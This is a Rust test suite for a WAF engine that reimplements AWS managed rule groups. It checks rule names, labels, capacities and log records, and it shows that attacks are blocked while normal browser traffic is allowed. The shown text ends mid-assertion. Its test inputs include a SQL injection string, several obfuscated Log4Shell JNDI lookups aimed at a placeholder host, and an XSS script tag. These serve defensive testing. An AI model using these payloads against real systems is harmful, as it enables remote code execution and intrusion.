//! The open managed rule groups (`rulesets/aws/`, registered in `src/managed/`).
//!
//! * Every shipped group carries exactly AWS's published rule names, labels, default actions,
//!   label namespace and capacity (spec §11; the expected values are data below).
//! * Every group loads through a Web ACL that references it, and its rules' computed capacity stays
//!   within the published `Capacity`.
//! * Behaviour through the engine: spec §6.3's worked examples, the documented conditions (size
//!   limits, missing User-Agent, the metadata address), one attack per rule that this rule and no
//!   earlier one stops, and ordinary browser traffic that no group touches.

mod common;

use serde_json::{json, Value};
use std::path::Path;
use webacl::compile::{build, BuildOptions, CompiledAcl, SearchStringEncoding, Source};
use webacl::load::{self, Document, Resources};
use webacl::managed::{Listing, SHIPPED};
use webacl::validate::Diagnostics;

// ---------------------------------------------------------------------------------------------
// The published lists (spec §11): group, short namespace, WCU, and (rule, label suffix, action).
// ---------------------------------------------------------------------------------------------

struct Published {
    name: &'static str,
    namespace: &'static str,
    capacity: u64,
    rules: &'static [(&'static str, &'static str, &'static str)],
}

#[rustfmt::skip] // a table: one rule per line
const PUBLISHED: &[Published] = &[
    Published {
        name: "AWSManagedRulesCommonRuleSet",
        namespace: "core-rule-set",
        capacity: 700,
        rules: &[
            ("NoUserAgent_HEADER", "NoUserAgent_Header", "Block"),
            ("UserAgent_BadBots_HEADER", "BadBots_Header", "Block"),
            ("SizeRestrictions_QUERYSTRING", "SizeRestrictions_QueryString", "Block"),
            ("SizeRestrictions_Cookie_HEADER", "SizeRestrictions_Cookie_Header", "Block"),
            ("SizeRestrictions_BODY", "SizeRestrictions_Body", "Block"),
            ("SizeRestrictions_URIPATH", "SizeRestrictions_URIPath", "Block"),
            ("EC2MetaDataSSRF_BODY", "EC2MetaDataSSRF_Body", "Block"),
            ("EC2MetaDataSSRF_COOKIE", "EC2MetaDataSSRF_Cookie", "Block"),
            ("EC2MetaDataSSRF_URIPATH", "EC2MetaDataSSRF_URIPath", "Block"),
            ("EC2MetaDataSSRF_QUERYARGUMENTS", "EC2MetaDataSSRF_QueryArguments", "Block"),
            ("GenericLFI_QUERYARGUMENTS", "GenericLFI_QueryArguments", "Block"),
            ("GenericLFI_URIPATH", "GenericLFI_URIPath", "Block"),
            ("GenericLFI_BODY", "GenericLFI_Body", "Block"),
            ("RestrictedExtensions_URIPATH", "RestrictedExtensions_URIPath", "Block"),
            ("RestrictedExtensions_QUERYARGUMENTS", "RestrictedExtensions_QueryArguments", "Block"),
            ("GenericRFI_QUERYARGUMENTS", "GenericRFI_QueryArguments", "Block"),
            ("GenericRFI_BODY", "GenericRFI_Body", "Block"),
            ("GenericRFI_URIPATH", "GenericRFI_URIPath", "Block"),
            ("CrossSiteScripting_COOKIE", "CrossSiteScripting_Cookie", "Block"),
            ("CrossSiteScripting_QUERYARGUMENTS", "CrossSiteScripting_QueryArguments", "Block"),
            ("CrossSiteScripting_BODY", "CrossSiteScripting_Body", "Block"),
            ("CrossSiteScripting_URIPATH", "CrossSiteScripting_URIPath", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesAdminProtectionRuleSet",
        namespace: "admin-protection",
        capacity: 100,
        rules: &[("AdminProtection_URIPATH", "AdminProtection_URIPath", "Block")],
    },
    Published {
        name: "AWSManagedRulesKnownBadInputsRuleSet",
        namespace: "known-bad-inputs",
        capacity: 200,
        rules: &[
            ("JavaDeserializationRCE_HEADER", "JavaDeserializationRCE_Header", "Block"),
            ("JavaDeserializationRCE_BODY", "JavaDeserializationRCE_Body", "Block"),
            ("JavaDeserializationRCE_URIPATH", "JavaDeserializationRCE_URIPath", "Block"),
            ("JavaDeserializationRCE_QUERYSTRING", "JavaDeserializationRCE_QueryString", "Block"),
            ("Host_localhost_HEADER", "Host_Localhost_Header", "Block"),
            ("PROPFIND_METHOD", "Propfind_Method", "Block"),
            ("ExploitablePaths_URIPATH", "ExploitablePaths_URIPath", "Block"),
            ("Log4JRCE_HEADER", "Log4JRCE_Header", "Block"),
            ("Log4JRCE_QUERYSTRING", "Log4JRCE_QueryString", "Block"),
            ("Log4JRCE_BODY", "Log4JRCE_Body", "Block"),
            ("Log4JRCE_URIPATH", "Log4JRCE_URIPath", "Block"),
            ("ReactJSRCE_BODY", "ReactJSRCE_Body", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesSQLiRuleSet",
        namespace: "sql-database",
        capacity: 200,
        rules: &[
            ("SQLi_QUERYARGUMENTS", "SQLi_QueryArguments", "Block"),
            ("SQLiExtendedPatterns_QUERYARGUMENTS", "SQLiExtendedPatterns_QueryArguments", "Block"),
            ("SQLi_BODY", "SQLi_Body", "Block"),
            ("SQLiExtendedPatterns_BODY", "SQLiExtendedPatterns_Body", "Block"),
            ("SQLi_COOKIE", "SQLi_Cookie", "Block"),
            ("SQLi_URIPATH", "SQLi_URIPath", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesLinuxRuleSet",
        namespace: "linux-os",
        capacity: 200,
        rules: &[
            ("LFI_URIPATH", "LFI_URIPath", "Block"),
            ("LFI_QUERYSTRING", "LFI_QueryString", "Block"),
            ("LFI_HEADER", "LFI_Header", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesUnixRuleSet",
        namespace: "posix-os",
        capacity: 100,
        rules: &[
            ("UNIXShellCommandsVariables_QUERYSTRING", "UNIXShellCommandsVariables_QueryString", "Block"),
            ("UNIXShellCommandsVariables_BODY", "UNIXShellCommandsVariables_Body", "Block"),
            ("UNIXShellCommandsVariables_HEADER", "UNIXShellCommandsVariables_Header", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesWindowsRuleSet",
        namespace: "windows-os",
        capacity: 200,
        rules: &[
            ("WindowsShellCommands_COOKIE", "WindowsShellCommands_Cookie", "Block"),
            ("WindowsShellCommands_QUERYARGUMENTS", "WindowsShellCommands_QueryArguments", "Block"),
            ("WindowsShellCommands_BODY", "WindowsShellCommands_Body", "Block"),
            ("PowerShellCommands_COOKIE", "PowerShellCommands_Cookie", "Block"),
            ("PowerShellCommands_QUERYARGUMENTS", "PowerShellCommands_QueryArguments", "Block"),
            ("PowerShellCommands_BODY", "PowerShellCommands_Body", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesPHPRuleSet",
        namespace: "php-app",
        capacity: 100,
        rules: &[
            ("PHPHighRiskMethodsVariables_HEADER", "PHPHighRiskMethodsVariables_Header", "Block"),
            ("PHPHighRiskMethodsVariables_QUERYSTRING", "PHPHighRiskMethodsVariables_QueryString", "Block"),
            ("PHPHighRiskMethodsVariables_BODY", "PHPHighRiskMethodsVariables_Body", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesWordPressRuleSet",
        namespace: "wordpress-app",
        capacity: 100,
        rules: &[
            ("WordPressExploitableCommands_QUERYSTRING", "WordPressExploitableCommands_QUERYSTRING", "Block"),
            ("WordPressExploitablePaths_URIPATH", "WordPressExploitablePaths_URIPATH", "Block"),
        ],
    },
    Published {
        name: "AWSManagedRulesAmazonIpReputationList",
        namespace: "amazon-ip-list",
        capacity: 25,
        rules: &[
            ("AWSManagedIPReputationList", "AWSManagedIPReputationList", "Block"),
            ("AWSManagedReconnaissanceList", "AWSManagedReconnaissanceList", "Block"),
            ("AWSManagedIPDDoSList", "AWSManagedIPDDoSList", "Count"),
        ],
    },
    Published {
        name: "AWSManagedRulesAnonymousIpList",
        namespace: "anonymous-ip-list",
        capacity: 50,
        rules: &[
            ("AnonymousIPList", "AnonymousIPList", "Block"),
            ("HostingProviderIPList", "HostingProviderIPList", "Block"),
        ],
    },
];

fn published(name: &str) -> &'static Published {
    PUBLISHED
        .iter()
        .find(|p| p.name == name)
        .unwrap_or_else(|| panic!("{name} is not in the published list"))
}

fn group_json(name: &str) -> Value {
    let g = SHIPPED
        .iter()
        .find(|g| g.name == name)
        .unwrap_or_else(|| panic!("{name} is not shipped"));
    serde_json::from_str(g.json).unwrap_or_else(|e| panic!("{name}: {e}"))
}

// ---------------------------------------------------------------------------------------------
// Harness: an ACL from JSON, the example resources, one request → one AWS log record.
// ---------------------------------------------------------------------------------------------

fn example_resources() -> Resources {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rulesets/examples/resources");
    let mut diags = Diagnostics::new("resources");
    let res = load::resources_dir(&dir, &mut diags);
    assert!(diags.is_empty(), "{:?}", diags.into_vec());
    res
}

fn visibility(name: &str) -> Value {
    json!({"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": name})
}

/// A Web ACL (default Allow) holding `rules`.
fn web_acl(rules: Vec<Value>) -> Value {
    json!({
        "Name": "managed-test",
        "Id": "0d8d3c8e-1c1e-4f4a-9a57-6f0c2d7b1a00",
        "ARN": "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/managed-test/0d8d3c8e-1c1e-4f4a-9a57-6f0c2d7b1a00",
        "DefaultAction": {"Allow": {}},
        "VisibilityConfig": visibility("managed-test"),
        "Rules": rules,
    })
}

/// An ACL rule referencing AWS's group `group`; `extra` members are merged into the statement.
fn managed_rule(rule: &str, priority: i64, group: &str, extra: Value, count: bool) -> Value {
    let mut stmt = json!({"VendorName": "AWS", "Name": group});
    if let Value::Object(m) = extra {
        for (k, v) in m {
            stmt[k] = v;
        }
    }
    json!({
        "Name": rule,
        "Priority": priority,
        "OverrideAction": if count { json!({"Count": {}}) } else { json!({"None": {}}) },
        "Statement": {"ManagedRuleGroupStatement": stmt},
        "VisibilityConfig": visibility(rule),
    })
}

fn compile_with(acl: Value, opts: &BuildOptions) -> Result<CompiledAcl, Vec<String>> {
    let doc = Document {
        file: "acl.json".into(),
        base: String::new(),
        value: acl,
    };
    build(&doc, &example_resources(), opts).map_err(|d| d.iter().map(|d| d.to_string()).collect())
}

fn compile(acl: Value) -> CompiledAcl {
    compile_with(acl, &BuildOptions::default()).unwrap_or_else(|d| panic!("ACL rejected: {d:#?}"))
}

/// Evaluates one request (the `httpRequest` shape of a log record, plus `body`) → log record.
fn evaluate_one(acl: &CompiledAcl, request: &Value) -> Value {
    common::log_record(acl, request)
}

const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

/// A request with a Host and a browser User-Agent (unless `headers` sets them), from 10.0.0.7.
fn request(mut r: Value) -> Value {
    let mut headers = r
        .get("headers")
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_default();
    let has = |h: &[Value], n: &str| {
        h.iter().any(|x| {
            x["name"]
                .as_str()
                .is_some_and(|s| s.eq_ignore_ascii_case(n))
        })
    };
    if !has(&headers, "host") {
        headers.insert(0, json!({"name": "Host", "value": "shop.example.com"}));
    }
    if !has(&headers, "user-agent") && r.get("noUserAgent").is_none() {
        headers.insert(1, json!({"name": "User-Agent", "value": CHROME_UA}));
    }
    let m = r.as_object_mut().unwrap();
    m.remove("noUserAgent");
    m.insert("headers".into(), Value::Array(headers));
    m.entry("clientIp").or_insert(json!("10.0.0.7"));
    r
}

fn h(name: &str, value: &str) -> Value {
    json!({"name": name, "value": value})
}

fn labels(log: &Value) -> Vec<String> {
    log.get("labels")
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|l| l["name"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// `want` is contained in `got`: objects by key (recursively), arrays element-wise with equal
/// length, scalars equal.
fn subset(got: &Value, want: &Value, path: &str) -> Result<(), String> {
    match (got, want) {
        (Value::Object(g), Value::Object(w)) => w.iter().try_for_each(|(k, wv)| {
            let gv = g.get(k).ok_or_else(|| format!("{path}/{k}: missing"))?;
            subset(gv, wv, &format!("{path}/{k}"))
        }),
        (Value::Array(g), Value::Array(w)) if g.len() == w.len() => g
            .iter()
            .zip(w)
            .enumerate()
            .try_for_each(|(i, (gv, wv))| subset(gv, wv, &format!("{path}/{i}"))),
        _ if got == want => Ok(()),
        _ => Err(format!("{path}: got {got}, want {want}")),
    }
}

fn assert_subset(log: &Value, want: Value) {
    if let Err(e) = subset(log, &want, "") {
        panic!("{e}\nlog: {log:#}");
    }
}

// ---------------------------------------------------------------------------------------------
// The published lists and the registry
// ---------------------------------------------------------------------------------------------

#[test]
fn shipped_groups_carry_the_published_names_labels_actions_and_capacity() {
    let shipped: Vec<&str> = SHIPPED.iter().map(|g| g.name).collect();
    let expected: Vec<&str> = PUBLISHED.iter().map(|p| p.name).collect();
    assert_eq!(
        shipped, expected,
        "the registry ships exactly the published groups, in order"
    );
    for g in SHIPPED {
        assert_eq!(g.vendor, "AWS");
        let p = published(g.name);
        let v = group_json(g.name);
        let ns = format!("awswaf:managed:aws:{}:", p.namespace);
        assert_eq!(v["Name"], g.name, "{}: Name is the registry key", g.name);
        assert_eq!(v["Capacity"], p.capacity, "{}: Capacity", g.name);
        assert_eq!(
            v["LabelNamespace"],
            ns.as_str(),
            "{}: LabelNamespace",
            g.name
        );
        let arn = v["ARN"].as_str().unwrap();
        assert_eq!(
            arn,
            format!(
                "arn:aws:wafv2:us-east-1:aws:regional/managedrulegroup/{}/{}",
                g.name,
                v["Id"].as_str().unwrap()
            ),
            "{}: the documented ARN layout",
            g.name
        );
        let rules = v["Rules"].as_array().unwrap();
        let got: Vec<(&str, &str, &str)> = rules
            .iter()
            .map(|r| {
                let labels = r["RuleLabels"].as_array().unwrap();
                assert_eq!(labels.len(), 1, "{}: one label per rule", r["Name"]);
                let action = r["Action"].as_object().unwrap();
                assert_eq!(action.len(), 1);
                (
                    r["Name"].as_str().unwrap(),
                    labels[0]["Name"].as_str().unwrap(),
                    action.keys().next().unwrap().as_str(),
                )
            })
            .collect();
        assert_eq!(
            got, p.rules,
            "{}: rules (name, label, action) in table order",
            g.name
        );
        for (i, r) in rules.iter().enumerate() {
            assert_eq!(
                r["Priority"], i,
                "{}: priorities follow the table",
                r["Name"]
            );
            assert_eq!(r["VisibilityConfig"]["MetricName"], r["Name"]);
        }
        let available: Vec<String> = v["AvailableLabels"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["Name"].as_str().unwrap().to_string())
            .collect();
        let want: Vec<String> = p.rules.iter().map(|(_, l, _)| format!("{ns}{l}")).collect();
        assert_eq!(available, want, "{}: AvailableLabels", g.name);
        // SearchString's encoding is a load option that also reaches embedded groups, so the shipped
        // groups match with regexes only and behave the same in base64 and text mode.
        assert!(
            !g.json.contains("ByteMatchStatement"),
            "{}: use RegexMatchStatement, not ByteMatchStatement",
            g.name
        );
    }
}

#[test]
fn every_group_loads_through_a_web_acl_that_references_it() {
    for p in PUBLISHED {
        for version in [None, Some("Version_1.0"), Some("Version_2.0")] {
            let extra = match version {
                Some(v) => json!({"Version": v}),
                None => json!({}),
            };
            let acl = web_acl(vec![managed_rule("ref", 0, p.name, extra, false)]);
            let compiled = compile_with(acl, &BuildOptions::default())
                .unwrap_or_else(|d| panic!("{} ({version:?}) did not load: {d:#?}", p.name));
            assert_eq!(
                compiled.capacity(),
                p.capacity,
                "{}: a reference costs the published Capacity",
                p.name
            );
            assert_eq!(compiled.total_rules(), p.rules.len() + 1, "{}", p.name);
        }
    }
}

/// The WCU the group's own rules need, priced by the engine: the same rules as top-level ACL rules.
fn computed_capacity(name: &str) -> u64 {
    let g = group_json(name);
    compile(web_acl(g["Rules"].as_array().unwrap().clone())).capacity()
}

#[test]
fn computed_capacity_stays_within_the_published_capacity() {
    let readme = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("rulesets/aws/README.md"),
    )
    .expect("rulesets/aws/README.md");
    let mut report = String::from("group: computed / published WCU\n");
    for p in PUBLISHED {
        let computed = computed_capacity(p.name);
        report.push_str(&format!("  {}: {computed} / {}\n", p.name, p.capacity));
        let row = format!(
            "| {} | {} | {computed} | {} |",
            p.name,
            p.capacity,
            p.rules.len()
        );
        assert!(
            readme.lines().any(|l| l == row),
            "rulesets/aws/README.md should have the row {row}"
        );
        assert!(
            computed <= p.capacity,
            "{}: its rules need {computed} WCU, more than the published {}",
            p.name,
            p.capacity
        );
        // The engine's own check for user groups agrees: load the file as a group of yours.
        let v = group_json(p.name);
        let arn = v["ARN"].as_str().unwrap().to_string();
        let mut res = example_resources();
        let mut diags = Diagnostics::new("group");
        load::add_resource_str(&mut res, &v.to_string(), "group.json", &mut diags);
        assert!(diags.is_empty());
        let acl = web_acl(vec![json!({
            "Name": "own", "Priority": 0, "OverrideAction": {"None": {}},
            "Statement": {"RuleGroupReferenceStatement": {"ARN": arn}},
            "VisibilityConfig": visibility("own"),
        })]);
        let doc = Document {
            file: "acl.json".into(),
            base: String::new(),
            value: acl,
        };
        if let Err(d) = build(&doc, &res, &BuildOptions::default()) {
            panic!("{} as an own group: {d:#?}", p.name);
        }
    }
    eprint!("{report}");
}

#[test]
fn rulesets_listing_shows_every_group_and_a_total() {
    let list = Listing::shipped().expect("embedded groups summarise");
    assert_eq!(list.groups.len(), PUBLISHED.len());
    for (g, p) in list.groups.iter().zip(PUBLISHED) {
        assert_eq!(
            (
                g.vendor,
                g.name.as_str(),
                g.capacity,
                g.rules,
                g.label_namespace.as_str()
            ),
            (
                "AWS",
                p.name,
                p.capacity,
                p.rules.len(),
                format!("awswaf:managed:aws:{}:", p.namespace).as_str()
            )
        );
    }
    let rules: usize = PUBLISHED.iter().map(|p| p.rules.len()).sum();
    let wcu: u64 = PUBLISHED.iter().map(|p| p.capacity).sum();
    let text = list.text();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), PUBLISHED.len() + 2, "{text}");
    assert!(lines[0].starts_with("VENDOR"), "{text}");
    assert!(
        lines[1].starts_with("AWS")
            && lines[1].contains("AWSManagedRulesCommonRuleSet")
            && lines[1].contains("700"),
        "{text}"
    );
    assert_eq!(
        lines.last().unwrap(),
        &format!(
            "{} groups, {rules} rules, {wcu} WCU if all are referenced (published capacities)",
            PUBLISHED.len()
        )
    );
    let j = list.json();
    assert_eq!(
        j["Total"],
        json!({"Groups": PUBLISHED.len(), "Rules": rules, "Capacity": wcu})
    );
    assert_eq!(
        j["ManagedRuleGroups"][3],
        json!({"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet", "Capacity": 200, "RuleCount": 6,
               "LabelNamespace": "awswaf:managed:aws:sql-database:"})
    );
}

// ---------------------------------------------------------------------------------------------
// Spec §6.3: ALB, web ACL rule `AWS-CRS`, priority 1, the managed CRS
// ---------------------------------------------------------------------------------------------

fn crs_acl(extra: Value, count: bool) -> CompiledAcl {
    compile(web_acl(vec![managed_rule(
        "AWS-CRS",
        1,
        "AWSManagedRulesCommonRuleSet",
        extra,
        count,
    )]))
}

fn ten_kb_body() -> Value {
    request(
        json!({"httpMethod": "POST", "uri": "/upload", "body": "a".repeat(10 * 1024),
                   "headers": [h("Content-Type", "application/octet-stream")]}),
    )
}

#[test]
fn missing_user_agent_is_blocked_by_the_common_rule_set() {
    // Spec §6.3 (a).
    let log = evaluate_one(
        &crs_acl(json!({}), false),
        &request(json!({"uri": "/", "noUserAgent": true})),
    );
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "AWS-CRS", "terminatingRuleType": "MANAGED_RULE_GROUP", "action": "BLOCK",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
                "terminatingRule": {"ruleId": "NoUserAgent_HEADER", "action": "BLOCK", "ruleMatchDetails": null},
                "nonTerminatingMatchingRules": [], "excludedRules": null}],
            "nonTerminatingMatchingRules": [], "responseCodeSent": null,
            "labels": [{"name": "awswaf:managed:aws:core-rule-set:NoUserAgent_Header"}],
        }),
    );
    assert!(
        log["ruleGroupList"][0]["terminatingRule"]
            .get("overriddenAction")
            .is_none(),
        "{log}"
    );
}

#[test]
fn spec_6_3_b_override_to_count_of_the_body_size_rule() {
    let acl = crs_acl(
        json!({"RuleActionOverrides": [{"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}]}),
        false,
    );
    let log = evaluate_one(&acl, &ten_kb_body());
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet", "terminatingRule": null,
                "nonTerminatingMatchingRules": [{"ruleId": "SizeRestrictions_BODY", "action": "COUNT",
                    "overriddenAction": "BLOCK", "ruleMatchDetails": []}],
                "excludedRules": null}],
            "nonTerminatingMatchingRules": [],
            "labels": [{"name": "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"}],
            "oversizeFields": ["REQUEST_BODY"],
        }),
    );
}

#[test]
fn spec_6_3_c_legacy_excluded_rules() {
    let acl = crs_acl(
        json!({"ExcludedRules": [{"Name": "SizeRestrictions_BODY"}]}),
        false,
    );
    let log = evaluate_one(&acl, &ten_kb_body());
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "Default_Action", "action": "ALLOW",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet", "terminatingRule": null,
                "nonTerminatingMatchingRules": [],
                "excludedRules": [{"exclusionType": "EXCLUDED_AS_COUNT", "ruleId": "SizeRestrictions_BODY"}]}],
        }),
    );
}

#[test]
fn spec_6_3_d_group_override_count() {
    let log = evaluate_one(
        &crs_acl(json!({}), true),
        &request(json!({"uri": "/", "noUserAgent": true})),
    );
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
                "terminatingRule": {"ruleId": "NoUserAgent_HEADER", "action": "BLOCK", "ruleMatchDetails": null},
                "nonTerminatingMatchingRules": [], "excludedRules": null}],
            "nonTerminatingMatchingRules": [{"ruleId": "AWS-CRS", "action": "COUNT", "ruleMatchDetails": []}],
            "labels": [{"name": "awswaf:managed:aws:core-rule-set:NoUserAgent_Header"}],
        }),
    );
}

#[test]
fn spec_6_3_f_override_upward_of_the_ddos_list() {
    let acl = compile(web_acl(vec![managed_rule(
        "AWS-IpRep",
        0,
        "AWSManagedRulesAmazonIpReputationList",
        json!({"RuleActionOverrides": [{"Name": "AWSManagedIPDDoSList", "ActionToUse": {"Block": {}}}]}),
        false,
    )]));
    let log = evaluate_one(&acl, &request(json!({"clientIp": "198.51.100.9"})));
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "AWS-IpRep", "terminatingRuleType": "MANAGED_RULE_GROUP", "action": "BLOCK",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesAmazonIpReputationList",
                "terminatingRule": {"ruleId": "AWSManagedIPDDoSList", "action": "BLOCK",
                    "overriddenAction": "COUNT", "ruleMatchDetails": null}}],
        }),
    );
}

// ---------------------------------------------------------------------------------------------
// The behaviours the issue names
// ---------------------------------------------------------------------------------------------

#[test]
fn textbook_sql_injection_in_a_query_argument_is_blocked_by_the_sqli_rule_set() {
    let acl = compile(web_acl(vec![managed_rule(
        "AWS-SQLi",
        0,
        "AWSManagedRulesSQLiRuleSet",
        json!({}),
        false,
    )]));
    let log = evaluate_one(
        &acl,
        &request(json!({"uri": "/products", "args": "id=1%27%20OR%20%271%27%3D%271"})),
    );
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "AWS-SQLi", "terminatingRuleType": "MANAGED_RULE_GROUP", "action": "BLOCK",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesSQLiRuleSet",
                "terminatingRule": {"ruleId": "SQLi_QUERYARGUMENTS", "action": "BLOCK"}}],
            "labels": [{"name": "awswaf:managed:aws:sql-database:SQLi_QueryArguments"}],
        }),
    );
    let details = log["terminatingRuleMatchDetails"].as_array().unwrap();
    assert_eq!(details.len(), 1, "{log}");
    assert_eq!(details[0]["conditionType"], "SQL_INJECTION", "{log}");
    assert_eq!(details[0]["sensitivityLevel"], "LOW", "{log}");
}

#[test]
fn log4j_lookup_in_a_header_is_blocked_by_known_bad_inputs() {
    let acl = compile(web_acl(vec![managed_rule(
        "AWS-KBI",
        0,
        "AWSManagedRulesKnownBadInputsRuleSet",
        json!({}),
        false,
    )]));
    for value in [
        "${jndi:ldap://x}",
        "${${lower:j}ndi:ldap://x}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${j${env:NOPE:-n}di:dns://x}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
    ] {
        let log = evaluate_one(
            &acl,
            &request(json!({"headers": [h("X-Api-Version", value)]})),
        );
        assert_subset(
            &log,
            json!({
                "terminatingRuleId": "AWS-KBI", "terminatingRuleType": "MANAGED_RULE_GROUP", "action": "BLOCK",
                "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesKnownBadInputsRuleSet",
                    "terminatingRule": {"ruleId": "Log4JRCE_HEADER", "action": "BLOCK"}}],
                "labels": [{"name": "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"}],
            }),
        );
    }
}

#[test]
fn script_tag_in_a_query_argument_is_blocked_by_the_common_rule_set() {
    let log = evaluate_one(
        &crs_acl(json!({}), false),
        &request(
            json!({"uri": "/search", "args": "q=%3Cscript%3Ealert(%22hello%22)%3C%2Fscript%3E"}),
        ),
    );
    assert_subset(
        &log,
        json!({
            "terminatingRuleId": "AWS-CRS", "terminatingRuleType": "MANAGED_RULE_GROUP", "action": "BLOCK",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
                "terminatingRule": {"ruleId": "CrossSiteScripting_QUERYARGUMENTS", "action": "BLOCK"}}],
            "labels": [{"name": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"}],
        }),
    );
}

/// Every shipped group, each in its own ACL rule with OverrideAction None.
fn all_groups_acl(opts: &BuildOptions) -> CompiledAcl {
    let rules = PUBLISHED
        .iter()
        .enumerate()
        .map(|(i, p)| {
            managed_rule(
                &format!("AWS-{}", p.name),
                i as i64,
                p.name,
                json!({}),
                false,
            )
        })
        .collect();
    compile_with(web_acl(rules), opts).unwrap_or_else(|d| panic!("{d:#?}"))
}

fn chrome_headers() -> Vec<Value> {
    vec![
        h("Host", "www.example.com"),
        h("Connection", "keep-alive"),
        h("sec-ch-ua", r#""Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99""#),
        h("sec-ch-ua-mobile", "?0"),
        h("sec-ch-ua-platform", r#""Windows""#),
        h("Upgrade-Insecure-Requests", "1"),
        h("User-Agent", CHROME_UA),
        h("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
        h("Sec-Fetch-Site", "same-origin"),
        h("Sec-Fetch-Mode", "navigate"),
        h("Sec-Fetch-User", "?1"),
        h("Sec-Fetch-Dest", "document"),
        h("Referer", "https://www.example.com/products?category=shoes&sort=price_asc&page=2"),
        h("Accept-Encoding", "gzip, deflate, br, zstd"),
        h("Accept-Language", "en-US,en;q=0.9,de;q=0.8"),
        h("Cookie", "_ga=GA1.1.1234567890.1700000000; _ga_X1Y2Z3=GS1.1.1700000000.3.1.1700000100.0.0.0; session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWxpY2UiLCJpYXQiOjE3MDAwMDAwMDB9.c2lnbmF0dXJlLXBsYWNlaG9sZGVy; cart=%7B%22items%22%3A%5B1042%2C2210%5D%7D; consent=necessary%2Canalytics; theme=dark; _fbp=fb.1.1700000000000.1234567890"),
    ]
}

fn api_headers(content_type: &str) -> Vec<Value> {
    vec![
        h("Host", "www.example.com"),
        h("User-Agent", CHROME_UA),
        h("Accept", "application/json, text/plain, */*"),
        h("Content-Type", content_type),
        h("Origin", "https://www.example.com"),
        h("Referer", "https://www.example.com/checkout"),
        h("Accept-Language", "en-US,en;q=0.9"),
        h("Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWxpY2UifQ.c2lnbmF0dXJl; csrftoken=Zk9yN3RqQ2xhV1l6"),
    ]
}

#[test]
fn ordinary_browser_requests_pass_every_group() {
    let acl = all_groups_acl(&BuildOptions::default());
    let browsing = [
        (
            "Chrome GET",
            json!({"clientIp": "10.1.2.3", "headers": chrome_headers(), "uri": "/products/running-shoes",
            "args": "color=blue&size=42&utm_source=newsletter&utm_medium=email&q=men%27s+trail+shoes"}),
        ),
        (
            "Chrome GET of a stylesheet",
            json!({"clientIp": "10.1.2.3", "headers": chrome_headers(),
            "uri": "/static/css/main.3f2a1b.css", "args": ""}),
        ),
        (
            "JSON POST",
            json!({"clientIp": "10.1.2.3", "httpMethod": "POST", "headers": api_headers("application/json"),
            "uri": "/api/v1/orders", "body": json!({
                "customerId": "c-1029",
                "items": [{"sku": "SHOE-42-BLUE", "qty": 1, "price": 89.99}],
                "shipping": {"name": "Jane O'Connor", "street": "12 Main St. Apt 4", "city": "Springfield", "zip": "01101"},
                "note": "Please deliver after 5pm; ring the bell twice.",
                "coupon": null, "giftWrap": false
            }).to_string()}),
        ),
        (
            "form POST",
            json!({"clientIp": "10.1.2.3", "httpMethod": "POST",
            "headers": api_headers("application/x-www-form-urlencoded"), "uri": "/login", "args": "next=%2Faccount%2Fsettings",
            "body": "username=alice%40example.com&password=correct+horse+battery+staple&remember=on&csrf_token=8f14e45fceea167a5a36dedd4bea2543"}),
        ),
        (
            "search with punctuation",
            json!({"clientIp": "10.1.2.3", "headers": chrome_headers(), "uri": "/search",
            "args": "q=rock+%26+roll+t-shirt+(size+M)%2C+50%25+off&sort=relevance"}),
        ),
    ];
    for (what, r) in browsing {
        let log = evaluate_one(&acl, &r);
        assert_eq!(log["action"], "ALLOW", "{what}: {log:#}");
        assert!(
            labels(&log).is_empty(),
            "{what}: no rule may even count it: {log:#}"
        );
        assert_eq!(
